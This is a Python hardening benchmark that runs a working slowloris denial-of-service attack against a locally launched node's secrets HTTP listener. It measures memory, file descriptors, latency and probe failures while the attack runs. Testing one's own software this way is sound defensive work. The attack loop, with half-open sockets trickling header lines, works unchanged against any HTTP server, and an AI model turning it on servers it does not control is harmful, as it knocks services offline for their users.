"""Slowloris against the secrets HTTP listener (issue 9, section 1), scaled down.

One node (``aspen node start`` as a process, every installed plugin, the secrets HTTP API
on a free port) gets its open-file limit lowered to ``--fd-limit`` (2,000), then
``--connections`` (2,000) sockets open on the HTTP port and send a request line and one
header line, then one more header line every few seconds, never finishing the headers.
Meanwhile an RPC client puts on one connection (latency), a probe opens a fresh RPC
connection once a second (what broke when the node ran out of file descriptors) and an
HTTP probe asks ``sys/health``. The node's RSS and open fds are sampled throughout.

    .venv/bin/python bench/hardening/http_listener.py [--connections 2000] [--seconds 30]

Prints RSS and open fds (before, peak), the put p50/p99 during the attack, fresh RPC
connections and HTTP probes that failed, and how many attack sockets the node closed.
2 cores shared by the node, the attacker and the clients: absolute figures are noisy.
"""

from __future__ import annotations

import argparse
import os
import resource
import socket
import statistics
import tempfile
import threading
import time
from pathlib import Path

import httpx

import aspen
from aspen.errors import AspenError
from aspen.node.devcluster import DevCluster

#: Seconds between the header lines each attack socket trickles.
TRICKLE_SECONDS = 3.0


def free_base() -> int:
    """A base port with room for client and peer ports."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1] // 10 * 10


def sample(pid: int) -> tuple[int, int]:
    """(RSS in MiB, open file descriptors) of process ``pid``."""
    rss_kb = 0
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            rss_kb = int(line.split()[1])
    return rss_kb // 1024, len(os.listdir(f"/proc/{pid}/fd"))


def closed_by_peer(sock: socket.socket) -> bool:
    """Whether the node answered or closed ``sock`` (readable: EOF, an error, or data)."""
    try:
        sock.recv(1, socket.MSG_PEEK)
    except BlockingIOError:
        return False
    return True


class Attack:
    """The slowloris: many sockets that never finish their request headers."""

    def __init__(self, host: str, port: int, count: int) -> None:
        self.address = (host, port)
        self.count = count
        self.socks: list[socket.socket] = []
        self.connect_failures = 0
        self.closed = 0
        self.stop = threading.Event()

    def run(self) -> None:
        """Open every socket, then trickle a header line into each until stopped."""
        for _ in range(self.count):
            if self.stop.is_set():
                break
            s = socket.socket()
            s.settimeout(1.0)
            try:
                s.connect(self.address)
                s.sendall(b"GET /v1/sys/health HTTP/1.1\r\nHost: x\r\n")
            except OSError:
                self.connect_failures += 1
                s.close()
                continue
            s.setblocking(False)
            self.socks.append(s)
        n = 0
        while not self.stop.wait(TRICKLE_SECONDS):
            alive = []
            for s in self.socks:
                try:
                    if closed_by_peer(s):
                        raise ConnectionError
                    s.send(b"X-%d: %d\r\n" % (n, n))
                    alive.append(s)
                except OSError:
                    self.closed += 1
                    s.close()
            self.socks = alive
            n += 1

    def close(self) -> None:
        """Close the sockets still open."""
        self.stop.set()
        for s in self.socks:
            s.close()


def main() -> None:
    """Run the attack once and print the figures."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--fd-limit", type=int, default=2000)
    args = parser.parse_args()

    with tempfile.TemporaryDirectory() as tmp:
        cluster = DevCluster(
            Path(tmp), 1, free_base(), env={"ASPEN_SECRETS_HTTP_LISTEN": "127.0.0.1:0"}
        )
        cluster.up()
        try:
            run(cluster, args)
        finally:
            cluster.down()


def run(cluster: DevCluster, args: argparse.Namespace) -> None:
    """The measurement, on a running one-node cluster."""
    pid = cluster.procs[0].pid
    limit = args.fd_limit
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (limit, limit))
    address_file = cluster.node_dir(1) / "secrets-http-address"
    deadline = time.monotonic() + 30
    while not address_file.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    host, _, port = address_file.read_text().strip().rpartition(":")
    endpoint, token = cluster.client_endpoint(1), cluster.token
    rss0, fds0 = sample(pid)

    stop = threading.Event()
    latencies: list[float] = []
    put_errors: list[str] = []
    probes = {"rpc_ok": 0, "rpc_failed": 0, "http_ok": 0, "http_failed": 0}
    samples: list[tuple[int, int]] = []

    def writer() -> None:
        with aspen.connect(endpoint, token=token, timeout=10) as c:
            n = 0
            while not stop.is_set():
                t0 = time.perf_counter()
                try:
                    c.kv.put(f"bench/{n % 100}", "x" * 100)
                    latencies.append(time.perf_counter() - t0)
                except AspenError as exc:
                    put_errors.append(str(exc))
                n += 1

    def prober() -> None:
        while not stop.wait(1.0):
            try:
                with aspen.connect(endpoint, token=token, timeout=3) as c:
                    c.kv.put("bench/probe", "x")
                probes["rpc_ok"] += 1
            except (AspenError, OSError):
                probes["rpc_failed"] += 1
            try:
                httpx.get(f"http://{host}:{port}/v1/sys/health", timeout=3)
                probes["http_ok"] += 1  # any HTTP answer (200 or a 503 refusal) counts
            except httpx.HTTPError:
                probes["http_failed"] += 1

    def sampler() -> None:
        while not stop.wait(0.5):
            samples.append(sample(pid))

    attack = Attack(host, int(port), args.connections)
    threads = [threading.Thread(target=f, daemon=True) for f in (writer, prober, sampler)]
    for t in threads:
        t.start()
    attacker = threading.Thread(target=attack.run, daemon=True)
    attacker.start()
    time.sleep(args.seconds)
    open_at_end = len(attack.socks)
    stop.set()
    attack.close()
    for t in (*threads, attacker):
        t.join(15)

    lat = sorted(latencies) or [float("nan")]
    p50 = statistics.median(lat) * 1000
    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] * 1000
    peak_rss = max([s[0] for s in samples] or [rss0])
    peak_fds = max([s[1] for s in samples] or [fds0])
    print(
        f"slowloris: {args.connections} half-open HTTP connections for {args.seconds:.0f}s, "
        f"node fd limit {limit} (2 shared cores)"
    )
    print(f"  node RSS MiB      before {rss0}  peak {peak_rss}")
    print(f"  node open fds     before {fds0}  peak {peak_fds}  at end {samples[-1][1]}")
    print(
        f"  attack sockets    connect failed {attack.connect_failures}  closed by node "
        f"{attack.closed}  still open at end {open_at_end}"
    )
    print(
        f"  puts (1 conn)     {len(latencies)} ok, {len(put_errors)} failed, "
        f"p50 {p50:.2f} ms  p99 {p99:.2f} ms"
    )
    print(
        f"  fresh RPC conns   {probes['rpc_ok']} ok, {probes['rpc_failed']} failed;  "
        f"HTTP probes {probes['http_ok']} answered, {probes['http_failed']} failed"
    )


if __name__ == "__main__":
    main()
